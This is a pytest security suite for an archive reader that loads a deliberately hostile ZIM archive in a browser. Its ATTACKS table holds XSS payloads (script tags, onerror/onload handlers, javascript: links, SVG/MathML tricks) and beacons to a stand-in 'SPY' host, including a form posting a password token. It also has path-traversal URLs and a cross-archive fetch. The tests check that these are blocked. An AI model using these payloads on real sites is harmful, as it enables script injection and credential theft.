"""A hostile archive in a real browser: no script runs, no request leaves, nothing else can be read.

Each attack is a page of the archive. It is opened in the reader, in the frame of the original, and as a page of its
own. `test_defence_is_needed` takes each defence away and expects the attack to succeed: a test here that could not
fail would say nothing.
"""

from __future__ import annotations

import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from openzim_mcp.worker.zim import Archive
from support.archives import write_zim
from support.http_server import TOKEN, HttpServer

SCRIPT = "document.title='pwned'; fetch('SPY/script'); top.location='SPY/top'"
ATTACKS = {
    "script": f"<script>{SCRIPT}</script><script src='evil.js'></script><script type='module' src='evil.js'></script>",
    "handlers": f'<body onload="{SCRIPT}"><img src="gone.png" onerror="{SCRIPT}"><svg onload="{SCRIPT}"></svg>'
    f'<details open ontoggle="{SCRIPT}">x</details><input autofocus onfocus="{SCRIPT}"><video><source onerror="{SCRIPT}"></video>'
    f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{SCRIPT}">x</p>',
    "links": f'<a id="go" href="javascript:{SCRIPT}">click</a> <a href="data:text/html,<script>{SCRIPT}</script>">data</a> '
    f'<a href="  JaVaScRiPt:{SCRIPT}">mixed</a><a href="java&#10;script:{SCRIPT}">broken</a>',
    "svg": f'<svg><script>{SCRIPT}</script><a xlink:href="javascript:{SCRIPT}"><text y="20">svg</text></a>'
    f'<foreignObject><iframe srcdoc="<script>{SCRIPT}</script>"></iframe></foreignObject></svg>'
    f'<math><mtext href="javascript:{SCRIPT}">m</mtext><annotation-xml encoding="text/html"><img src=x onerror="{SCRIPT}">'
    "</annotation-xml></math>",
    "frames": f"<iframe srcdoc=\"<script>{SCRIPT}</script>\"></iframe><iframe src='SPY/frame'></iframe>"
    "<object data='SPY/object'></object><embed src='SPY/embed'>",
    "refresh": "<meta http-equiv='refresh' content='0;url=SPY/refresh'><base href='SPY/base/'><p>refresh</p>",
    "preconnect": "<head><link rel='preconnect' href='SPY'><link rel='prefetch' href='SPY/prefetch'><link rel='preload' as='image' "
    "href='SPY/preload'><link rel='dns-prefetch' href='SPY'><link rel='stylesheet' href='SPY/css'></head><p>preconnect</p>",
    "styles": "<style>@import 'SPY/import'; @font-face{font-family:f;src:url(SPY/font)} body{background:url(SPY/bg);"
    "font-family:f} a::after{content:url(SPY/content)}</style><link rel=stylesheet href='evil.css'><p style=\"background:url("
    "SPY/inline)\">styles</p><a href='x'>a</a>",
    "pictures": "<img src='SPY/img'><img srcset='SPY/srcset 1x'><picture><source srcset='SPY/source'><img src='x.png'></picture>"
    "<video src='SPY/video' poster='SPY/poster' autoplay></video><audio src='SPY/audio' autoplay></audio>"
    "<table background='SPY/table'><tr><td>t</table><input type=image src='SPY/input'>",
    "forms": "<h1>Sign in</h1><form id=f action='SPY/form' method=post><input name=token type=password value=x>"
    "<button id=send>Send</button></form><form action='/sign-in' method=post><input name=token><button id=own>Own</button></form>",
    "paths": "<img src='../../../api/v1/health'><link rel=stylesheet href='../../static/page.css'><img src='/static/icon.svg'>"
    "<img src='..%2f..%2fstatic%2ficon.svg'><p>paths</p>",
    "leaving": "<a id=go href='SPY/leave' target=_top>leave</a><a id=go2 href='//SPYHOST/leave'>leave</a><map name=m>"
    "<area href='SPY/area' shape=default></map>",
    "broken": "<table><tr><td><b><p><a href='x'" + "<div><i>" * 300 + "<script>" + SCRIPT,
    "huge": "<p>" + "word " * 400_000 + f"<script>{SCRIPT}</script>",
    "<img src=x onerror=alert(1)>": "<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1><h2 id='\"><script>alert(1)</script>'>"
    "\"&gt;&lt;script&gt;</h2><p>title</p><h2 id='ui-question'>clobber</h2><p>x</p>",
}


class LocalServer:
    """A small web server."""

    def __init__(self, respond: Callable[[str], tuple[bytes, dict[str, str]]]) -> None:
        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body, headers = respond(self.path)
                self.send_response(200)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


class Spy(LocalServer):
    """Records what is asked of it."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        super().__init__(lambda path: (self.requests.append(path), (b"", {}))[1])


@pytest.fixture(scope="module")
def spy() -> Iterator[Spy]:
    started = Spy()
    yield started
    started.close()


@pytest.fixture(scope="module")
def library(spy: Spy, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("library")
    pages = {name: f"{html}" for name, html in ATTACKS.items()} | {
        "evil.js": SCRIPT,
        "evil.css": "body{background:url(SPY/sheet)} @import 'SPY/sheet2'; p::before{content:url(../../../api/v1/health)}",
        "evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script><text y="20">s</text></svg>',
    }
    written = {
        name: html.replace("SPYHOST", spy.host).replace("SPY", f"http://{spy.host}") for name, html in pages.items()
    }
    write_zim(folder / "hostile.zim", written, index=False, metadata={"Title": "<script>alert(1)</script>"})
    write_zim(folder / "secret.zim", {"Secret": "<p>the secret of another archive</p>"}, metadata={"Title": "Secrets"})
    return folder


@pytest.fixture(scope="module")
def server(library: Path) -> Iterator[HttpServer]:
    settings = {"AUTH_TOKEN": TOKEN, "RATE_LIMIT__ENABLED": "false"}
    with HttpServer((library / "hostile.zim", library / "secret.zim"), settings) as running:
        yield running


@pytest.fixture(scope="module")
def context(browser: Any, server: HttpServer) -> Iterator[Any]:
    opened = browser.new_context()
    opened.set_default_timeout(30_000)
    page = opened.new_page()
    page.goto(server.root)
    page.get_by_label("Token").fill(TOKEN)
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("heading", name="Answers from your own archives").wait_for()
    page.close()
    yield opened
    opened.close()


@pytest.fixture
def page(context: Any, spy: Spy) -> Iterator[Any]:
    spy.requests.clear()
    opened = context.new_page()
    yield opened
    opened.close()


def quoted(name: str) -> str:
    return name.replace("<", "%3C").replace(">", "%3E").replace(" ", "%20")


def original_root(page: Any, server: HttpServer) -> str:
    page.goto(f"{server.root}/original/hostile/forms")
    source = page.locator("iframe").get_attribute("src")
    return str(source).removesuffix("forms")


def click_everything(page: Any, frame: Any) -> None:
    """Click what an attack wants to be clicked; what is not there is passed over."""
    for selector in ("#go", "#go2", "#send", "#own"):
        element = frame.locator(selector)
        if element.count():
            element.first.click(no_wait_after=True, timeout=5000)
    page.wait_for_load_state("networkidle")


@pytest.mark.parametrize("name", ATTACKS)
def test_reader_shows_an_attack_as_text(page: Any, server: HttpServer, spy: Spy, name: str) -> None:
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"{server.root}/read/hostile/{quoted(name)}")
    page.wait_for_load_state("networkidle")

    assert "pwned" not in page.title()
    assert page.url.startswith(server.root)
    assert page.locator("main script, main iframe, main object, main embed, main form, main style").count() == 0
    assert page.locator("main [onerror], main [onload], main [style], main [href^='javascript']").count() == 0
    assert page.locator("#ui-question").get_attribute("name") == "q"
    assert (spy.requests, dialogs) == ([], [])


@pytest.mark.parametrize("name", [name for name in ATTACKS if name != "huge"])
def test_original_in_its_frame_is_harmless(page: Any, server: HttpServer, spy: Spy, name: str) -> None:
    page.goto(f"{server.root}/original/hostile/{quoted(name)}")
    page.wait_for_load_state("networkidle")
    click_everything(page, page.frame_locator("iframe"))

    assert page.url == f"{server.root}/original/hostile/{quoted(name)}"
    assert "pwned" not in page.title()
    assert spy.requests == []
    assert page.frames[1].evaluate("() => [self.origin, document.title === 'pwned']") == ["null", False]


@pytest.mark.parametrize("name", [*(name for name in ATTACKS if name != "huge"), "evil.svg", "evil.js"])
def test_original_as_a_page_of_its_own_is_harmless(page: Any, server: HttpServer, spy: Spy, name: str) -> None:
    root = original_root(page, server)
    page.goto(f"{server.root}{root}{quoted(name)}")
    click_everything(page, page)

    assert page.url.startswith(f"{server.root}{root}")
    assert "pwned" not in page.title()
    assert spy.requests == []
    assert page.evaluate("() => self.origin") == "null"


def test_original_loads_nothing_of_the_page(page: Any, server: HttpServer) -> None:
    root = original_root(page, server)
    page.goto(f"{server.root}{root}paths")
    page.wait_for_load_state("networkidle")

    loaded = page.evaluate("() => [...document.images].map((image) => image.naturalWidth)")
    assert loaded == [0, 0, 0]
    assert page.evaluate("() => [...document.styleSheets].length") in {0, 1}


def test_original_cannot_read_other_archives(page: Any, server: HttpServer) -> None:
    root = original_root(page, server)
    page.goto(f"{server.root}{root}forms")

    read = page.evaluate(
        """async () => {
          const read = async (path) => { try { return (await (await fetch(path)).text()).slice(0, 80); } catch { return "blocked"; } };
          return [await read('/read/secret/Secret'), await read('/api/v1/health'), await read('Secret')];
        }"""
    )
    assert read == ["blocked", "blocked", "blocked"]
    assert server.get(f"{root}Secret").status_code == 404


def test_original_gets_no_cookie(page: Any, server: HttpServer) -> None:
    sent: list[dict[str, str]] = []
    root = original_root(page, server)
    page.on("request", lambda request: sent.append(request.all_headers()) if "evil.css" in request.url else None)
    page.goto(f"{server.root}{root}styles")
    page.wait_for_load_state("networkidle")

    assert sent
    assert all("cookie" not in headers and headers.get("sec-fetch-site") == "cross-site" for headers in sent)


def take_away(policy: str, defence: str) -> str:
    return re.sub(rf"(?:^|; ){re.escape(defence)}[^;]*", "", policy).strip("; ")


@pytest.mark.parametrize(
    ("name", "defences"),
    [
        ("handlers", ("sandbox", "default-src")),
        ("styles", ("style-src", "img-src", "font-src", "default-src")),
        ("forms", ("sandbox", "form-action")),
    ],
)
def test_policy_is_needed(page: Any, server: HttpServer, spy: Spy, name: str, defences: tuple[str, ...]) -> None:
    root = original_root(page, server)

    def respond(path: str) -> tuple[bytes, dict[str, str]]:
        response = server.get(path)
        policy = response.headers.get("content-security-policy", "")
        for defence in defences:
            policy = take_away(policy, defence)
        return response.content, {"Content-Type": response.headers["content-type"], "Content-Security-Policy": policy}

    weak = LocalServer(respond)
    page.goto(f"http://{weak.host}{root}{name}", wait_until="commit")
    if name == "forms":
        page.locator("#send").click(no_wait_after=True)
    for _ in range(200):
        if spy.requests:
            break
        page.wait_for_timeout(50)
    weak.close()

    assert spy.requests, f"the attack fails without {defences} too, so its test says nothing"


@pytest.mark.parametrize("name", ["refresh", "preconnect", "leaving", "pictures"])
def test_rewriting_is_needed(page: Any, library: Path, server: HttpServer, spy: Spy, name: str) -> None:
    """What the policy of the original does not stop is taken out of the page: without that, something would leave."""
    root = original_root(page, server)
    html = Archive("hostile", [str(library / "hostile.zim")]).read_content(name)
    policy = "sandbox allow-scripts" if name == "refresh" else "sandbox"
    weak = LocalServer(lambda _path: (html, {"Content-Type": "text/html", "Content-Security-Policy": policy}))
    page.goto(f"http://{weak.host}{root}{name}", wait_until="commit")
    if name == "leaving":
        page.locator("#go2").click(no_wait_after=True)
    for _ in range(200):
        if spy.requests:
            break
        page.wait_for_timeout(50)
    weak.close()

    assert spy.requests
